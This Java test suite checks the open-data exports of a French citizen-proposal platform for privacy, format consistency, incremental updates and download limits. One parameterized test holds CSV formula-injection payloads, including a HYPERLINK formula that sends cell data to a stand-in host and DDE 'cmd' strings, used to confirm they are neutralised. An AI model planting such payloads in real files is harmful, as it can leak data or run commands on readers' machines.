package fr.democratiepermanente.insight.opendata;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import fr.democratiepermanente.ApplicationTest;
import fr.democratiepermanente.attack.Attacker;
import fr.democratiepermanente.proposal.Destination;
import fr.democratiepermanente.proposal.Journal;
import fr.democratiepermanente.proposal.JournalKind;
import fr.democratiepermanente.proposal.Withdrawals;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import java.util.zip.GZIPInputStream;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.mock.web.MockHttpServletResponse;

/** What anybody may take away: all of what is public, none of what is not, the same in every format. */
@ApplicationTest
class OpenDataTest extends OpenDataFixture {

    private static final String PROPOSALS = "/donnees/propositions.json";
    private static final String EVENTS = "/donnees/evenements.json";

    @LocalServerPort
    private int port;

    @Autowired
    private Journal journal;

    @Autowired
    private Withdrawals withdrawals;

    @Autowired
    private Catalogue catalogue;

    @Autowired
    private Downloads downloads;

    @Autowired
    private Words words;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://evil.example.org?\"&A1)",
                "+33 2 38 00 00 00",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\u00a0=1+1",
                "＝1+1",
                "fin\";=1+1;\"",
                "deux lignes\n=1+1",
                "\u0001\ufffe😀 <b>&amp;"
            })
    void aTextIsTextInEveryFormat(String text) {
        String reference = open(text + " " + UUID.randomUUID(), text);
        qualify(reference, Destination.CHANTIER, true);
        String kept = proposals.get(reference).body();

        CSVRecord row = csv("/donnees/propositions.csv").stream()
                .filter(one -> one.get("reference").equals(reference))
                .findFirst()
                .orElseThrow();

        assertThat(row.get("texte")).endsWith(kept);
        assertThat(row.toList())
                .allSatisfy(cell ->
                        assertThat(cell.replaceFirst("^[\\s\\p{Z}\\p{C}]+", "")).doesNotMatch("(?s)[=+@＝＋－＠-].*"));
        assertThat(row(PROPOSALS, "reference", reference)
                        .orElseThrow()
                        .get("texte")
                        .asText())
                .isEqualTo(kept);
    }

    @Test
    void whatXmlCannotHoldIsLeftOut() {
        assertThat(XesFile.legal("a\u0000\u0001\u000b\t\n\ud800é\ufffe😀\uffff]]>"))
                .isEqualTo("a\t\né😀]]>");
    }

    @Test
    void nobodysNameAndNothingUnpublishedLeaves() {
        String secret = "discret" + UUID.randomUUID().toString().substring(0, 8);
        String reference = open("Titre " + secret, "Texte " + secret);
        qualify(reference, Destination.IMMEDIATE_MEASURE, false);
        journal.record(reference, JournalKind.QUALIFIED, "claire.moreau", "service-mobilites", "Remarque " + secret);
        journal.record(reference, JournalKind.HANDLED, "lea.martinet", "service-mobilites", null);
        journal.record(reference, JournalKind.TASK_CLAIMED, "lea.martinet", null, secret);
        jdbc.sql("insert into measure (reference, title, owner, due_on, description, written_by, written_at)"
                        + " values (?, ?, ?, '2027-07-01', ?, 'lea.martinet', now())")
                .params(reference, secret, "Personne " + secret, secret)
                .update();
        jdbc.sql("insert into answer (reference, round, text, drafted_by, drafted_at)"
                        + " values (?, 1, ?, 'lea.martinet', now())")
                .params(reference, "Brouillon " + secret)
                .update();

        for (Dataset dataset : catalogue.all()) {
            for (Format format : dataset.formats()) {
                String all = body(dataset.path(format));
                assertThat(all)
                        .as(dataset.path(format))
                        .doesNotContain(secret)
                        .doesNotContain("Ondine", "Structure discrète", "ondine.secrete@", "02 99 98 97 96")
                        .doesNotContain("lea.martinet", "Léa Martinet", "claire.moreau", "TASK_CLAIMED");
            }
        }
        JsonNode row = row(PROPOSALS, "reference", reference).orElseThrow();
        assertThat(row.get("contributeur").asText()).isEqualTo("ORGANISATION");
        assertThat(row.get("texte_public").asBoolean()).isFalse();
        assertThat(row.get("titre").isNull() && row.get("texte").isNull()).isTrue();

        jdbc.sql("update answer set published_at = now() where reference = ?")
                .param(reference)
                .update();
        assertThat(body("/donnees/reponses.csv")).contains("Brouillon " + secret);
        assertThat(body("/donnees/resultats.json"))
                .contains(secret, "/mesures/" + reference)
                .doesNotContain("Personne " + secret);
    }

    @Test
    void anOrientationIsToldOnceItIsPublicAndTheStudyWithItsAnswer() {
        String reference = open("Une passerelle à Vierzon", "Il faudrait une passerelle pour rejoindre la gare.");
        jdbc.sql("""
                update proposal set status = 'CONFIRMING', step = 'confirmTriage', destination = 'CHANTIER',
                    service_code = 'service-mobilites', level = 'REGION' where reference = ?""").param(reference).update();
        journal.record(reference, JournalKind.QUALIFIED, "claire.moreau", "service-mobilites", null);
        jdbc.sql("insert into chantier_study (reference, chantier_code, study, recommendation, written_by, written_at)"
                        + " select ?, code, 'Étude', 'INTEGRATE', 'lea.martinet', now() from chantier limit 1")
                .param(reference)
                .update();

        JsonNode before = row(PROPOSALS, "reference", reference).orElseThrow();
        List.of("orientation", "service", "service_code", "echelon", "chantier_code")
                .forEach(column ->
                        assertThat(before.get(column).isNull()).as(column).isTrue());
        assertThat(before.get("statut_libelle").asText()).isEqualTo("Orientation en relecture");
        assertThat(rows(EVENTS, "reference", reference).stream()
                        .map(event -> event.get("evenement").asText() + " "
                                + event.get("service_code").asText()))
                .containsExactly("SUBMITTED null", "QUALIFIED service-pilote");

        jdbc.sql("update proposal set status = 'DRAFTING', step = 'draftAnswer' where reference = ?")
                .param(reference)
                .update();
        JsonNode studied = row(PROPOSALS, "reference", reference).orElseThrow();
        assertThat(studied.get("orientation_libelle").asText()).isEqualTo("Chantier");
        assertThat(studied.get("service_code").asText()).isEqualTo("service-mobilites");
        assertThat(studied.get("chantier_code").isNull()).isTrue();

        jdbc.sql("insert into answer (reference, round, text, drafted_by, drafted_at, published_at)"
                        + " values (?, 1, 'Oui.', 'lea.martinet', now(), now())")
                .param(reference)
                .update();
        assertThat(row(PROPOSALS, "reference", reference)
                        .orElseThrow()
                        .get("chantier_code")
                        .asText())
                .isNotEqualTo("null");
    }

    @Test
    void aProposalWithoutItsTextIsStillThere() {
        String reference = cases.take("Un texte que son auteur efface " + UUID.randomUUID());
        assertThat(withdrawals.withdraw(reference, true)).isTrue();

        JsonNode row = row(PROPOSALS, "reference", reference).orElseThrow();

        assertThat(row.get("statut").asText()).isEqualTo("WITHDRAWN");
        assertThat(row.get("titre").isNull() && row.get("texte").isNull()).isTrue();
        assertThat(row.get("contributeur").isNull()).isTrue();
    }

    @Test
    void onlyWhatChangedSinceTheLastTime() {
        clock.travel(Duration.ofDays(40));
        try {
            String untouched = open("Un abri à vélos", "Il manque un abri à vélos devant la médiathèque.");
            String survivor = cases.take("Un car le dimanche");
            String merged = cases.take("Un car le dimanche, aussi");
            jdbc.sql("update proposal set status = 'MERGED', merged_into = ?, closed_at = now() where reference = ?")
                    .params(survivor, merged)
                    .update();
            clock.travel(Duration.ofDays(3));
            JsonNode first = json(PROPOSALS);
            String next = first.get("jusqu_au").asText();
            assertThat(first.get("depuis").isNull()).isTrue();
            assertThat(Duration.between(
                            Instant.parse(next),
                            Instant.parse(first.get("genere_le").asText())))
                    .isEqualTo(Duration.ofMinutes(5));
            journal.record(survivor, JournalKind.HANDLED, "lea.martinet", "service-mobilites", null);

            String query = "?since=" + next;
            assertThat(references(PROPOSALS + query)).contains(survivor, merged).doesNotContain(untouched);
            assertThat(references(PROPOSALS + "?since=" + next.substring(0, 10)))
                    .contains(survivor, merged)
                    .doesNotContain(untouched);
            assertThat(csv("/donnees/propositions.csv" + query)).hasSameSizeAs(references(PROPOSALS + query));
            assertThat(rows(EVENTS + query, "reference", survivor))
                    .singleElement()
                    .satisfies(
                            event -> assertThat(event.get("service").asText()).isEqualTo("Direction des mobilités"));
            assertThat(trace("/donnees/evenements.xes" + query, survivor))
                    .as("a trace is whole")
                    .hasSize(3);
            assertThat(traces("/donnees/evenements.xes" + query))
                    .noneMatch(trace -> trace.get(0).get("concept:name").equals(untouched));
            MockHttpServletResponse answer = get(PROPOSALS + query);
            assertThat(Instant.parse(answer.getHeader(DataController.NEXT_SINCE)))
                    .isAfterOrEqualTo(Instant.parse(next));
        } finally {
            clock.comeBack();
        }
    }

    private List<String> references(String address) {
        return StreamSupport.stream(json(address).get("donnees").spliterator(), false)
                .map(row -> row.get("reference").asText())
                .toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "hier", "2027-02-30", "01/03/2027", "2027-03-01T08:00", "+9999-01-01T00:00:00Z", "0"})
    void anotherSinceIsRefused(String since) throws Exception {
        MockHttpServletResponse answer = get("/donnees/reponses.json?since={since}".replace("{since}", since));
        assertThat(answer.getStatus()).isEqualTo(400);
        assertThat(answer.getContentAsString(StandardCharsets.UTF_8)).contains("une date (2027-03-01)");
    }

    @Test
    void aMomentIsReadWithItsOffset() {
        assertThat(Since.read("2027-03-01")).contains(Instant.parse("2027-02-28T23:00:00Z"));
        assertThat(Since.read("2027-03-01T10:00:00 02:00")).contains(Instant.parse("2027-03-01T08:00:00Z"));
        assertThat(Since.read("2027-03-01T10:00:00.5+02:00")).contains(Instant.parse("2027-03-01T08:00:00.5Z"));
    }

    @Test
    void theEventLogIsReadByProcessMining() {
        String reference = cases.take("Des bancs sur le mail " + UUID.randomUUID());
        cases.answer(reference);

        List<Map<String, String>> trace = trace("/donnees/evenements.xes", reference);

        assertThat(trace.get(0))
                .containsEntry("orientation", "IMMEDIATE_MEASURE")
                .containsEntry("orientation_libelle", "Mesure immédiate")
                .containsKey("theme");
        assertThat(trace.stream().skip(1).map(event -> event.get("code")))
                .containsExactly("SUBMITTED", "QUALIFIED", "HANDLED", "ANSWER_APPROVED", "ANSWER_PUBLISHED", "CLOSED");
        assertThat(trace.stream().skip(1))
                .allSatisfy(event -> assertThat(event)
                        .containsEntry("lifecycle:transition", "complete")
                        .containsKeys("concept:name", "time:timestamp"));
        assertThat(trace.get(3))
                .containsEntry("org:group", "Direction des mobilités")
                .containsEntry("concept:name", "Travail du service terminé");
        assertThat(csv("/donnees/evenements.csv").stream()
                        .filter(event -> event.get("reference").equals(reference)))
                .hasSize(trace.size() - 1);
    }

    @Test
    void resultsAreThoseOfThePublicPages() throws Exception {
        String code = "ouvert-" + UUID.randomUUID().toString().substring(0, 8);
        jdbc.sql("insert into chantier (code, title, summary, service_code, objective_code)"
                        + " select ?, 'Des gares ouvertes', 'Résumé', 'service-mobilites', min(code) from objective")
                .param(code)
                .update();
        jdbc.sql("insert into frame_version (kind, code, version, title, text, written_at)"
                        + " values ('CHANTIER', ?, 1, 'Des gares ouvertes', 'Résumé', now())")
                .param(code)
                .update();
        JsonNode awaited = row("/donnees/resultats.json", "code", code).orElseThrow();
        assertThat(awaited.get("nouvelle").asInt()).isZero();
        assertThat(awaited.get("etat").asText()).isEqualTo("PLANNED");
        assertThat(awaited.get("ambition").isNull()).isFalse();
        String since = clock.instant().plusSeconds(1).toString();
        for (String state : List.of("STARTED", "DONE")) {
            jdbc.sql("insert into progress (chantier, state, happened_on, text, recorded_by, recorded_at)"
                            + " values (?, ?, '2026-11-02', ?, 'lea.martinet', now() + interval '2 seconds')")
                    .params(code, state, "Nouvelle " + state)
                    .update();
        }

        List<JsonNode> rows = rows("/donnees/resultats.json?since=" + since, "code", code);

        assertThat(rows.stream().map(row -> row.get("nouvelle_texte").asText()))
                .containsExactly("Nouvelle STARTED", "Nouvelle DONE");
        assertThat(rows).allSatisfy(row -> {
            assertThat(row.get("etat_libelle").asText()).isEqualTo("C’est fait");
            String page = get(row.get("adresse").asText().replaceFirst("https://[^/]*", ""))
                    .getContentAsString(StandardCharsets.UTF_8);
            assertThat(page)
                    .contains(
                            row.get("intitule").asText(),
                            row.get("nouvelle_texte").asText());
        });
    }

    @Test
    void nothingIsLostBetweenTwoReadings() throws IOException {
        for (Dataset dataset : Stream.concat(catalogue.all().stream(), Stream.of(EventRows.traced()))
                .toList()) {
            List<List<Object>> atOnce = rows(new Export(jdbc, words), dataset);
            assertThat(rows(new Export(jdbc, words, 3, 2), dataset)).isEqualTo(atOnce);
        }
    }

    private static List<List<Object>> rows(Export export, Dataset dataset) throws IOException {
        List<List<Object>> rows = new ArrayList<>();
        export.write(
                dataset,
                null,
                new RowWriter() {
                    @Override
                    public void row(Object[] cells) {
                        rows.add(Arrays.asList(cells));
                    }

                    @Override
                    public void end() {}
                },
                () -> {});
        return rows;
    }

    @Test
    void whatBreaksOffDoesNotLookComplete() throws IOException {
        ByteArrayOutputStream target = new ByteArrayOutputStream();
        Dataset dataset = catalogue.find("reponses").orElseThrow();
        Instant now = clock.instant();
        Extract extract = new Extract("Essai", new OpenDataSettings.Licence("L", "U"), now, null, now);
        RowWriter file = Format.JSON.writer(target, dataset, extract);
        for (long round = 1; round < 1_000; round++) {
            file.row(new Object[] {"DP-0000-0000", round, now.toString(), "Oui.", "/"});
        }
        assertThatThrownBy(() -> new ObjectMapper().readTree(target.toByteArray()))
                .isInstanceOf(IOException.class);
        file.end();
        assertThat(new ObjectMapper().readTree(target.toByteArray()).get("donnees"))
                .hasSize(999);
    }

    @Test
    void aFileTakenTooSlowlyIsGivenUp() {
        cases.published("Une proposition pour qui lit lentement");
        Dataset dataset = catalogue.find("propositions").orElseThrow();
        Export.Permit tooSlow = () -> {
            throw new IOException("too slow");
        };
        assertThatThrownBy(() -> new Export(jdbc, words)
                        .write(dataset, null, new CsvRows(new ByteArrayOutputStream(), dataset), tooSlow))
                .hasMessage("too slow");
    }

    @Test
    void aFewFilesAtATime() throws Exception {
        List<Downloads.Place> taken = new ArrayList<>();
        for (String client : List.of("a", "a", "b", "b")) {
            taken.add(downloads.enter(client).orElseThrow());
        }
        assertThat(get(PROPOSALS)).satisfies(answer -> {
            assertThat(answer.getStatus()).isEqualTo(503);
            assertThat(answer.getHeader("Retry-After")).isEqualTo("60");
            assertThat(answer.getContentAsString(StandardCharsets.UTF_8)).startsWith("Trop de fichiers");
        });
        taken.remove(3).close();
        assertThat(downloads.enter("a")).as("not all of them for one client").isEmpty();
        assertThat(get(PROPOSALS).getStatus()).isEqualTo(200);
        taken.forEach(Downloads.Place::close);
    }

    @Test
    void filesAreForAnySiteAndCompressed() throws IOException {
        Attacker portal = new Attacker(port);
        Attacker.Answer answer =
                portal.get(PROPOSALS, "Origin", "https://portail.example", "Accept-Encoding", "br, gzip");
        assertThat(answer.header("Access-Control-Allow-Origin")).contains("*");
        assertThat(answer.header("Access-Control-Allow-Credentials")).isEmpty();
        assertThat(answer.header("Content-Encoding")).contains("gzip");
        try (GZIPInputStream plain = new GZIPInputStream(new ByteArrayInputStream(answer.bytes()))) {
            assertThat(new ObjectMapper().readTree(plain).get("donnees").isArray())
                    .isTrue();
        }
        assertThat(portal.get(PROPOSALS, "Accept-Encoding", "gzip;q=0").header("Content-Encoding"))
                .isEmpty();
        Attacker.Answer head = portal.send("HEAD", "/donnees/propositions.csv", new byte[0]);
        assertThat(head.status()).isEqualTo(200);
        assertThat(head.header("Content-Type")).contains("text/csv;charset=UTF-8");
        assertThat(head.header("Content-Disposition")).contains("attachment; filename=\"propositions.csv\"");
        assertThat(portal.get("/propositions", "Origin", "https://portail.example")
                        .header("Access-Control-Allow-Origin"))
                .isEmpty();
    }
}
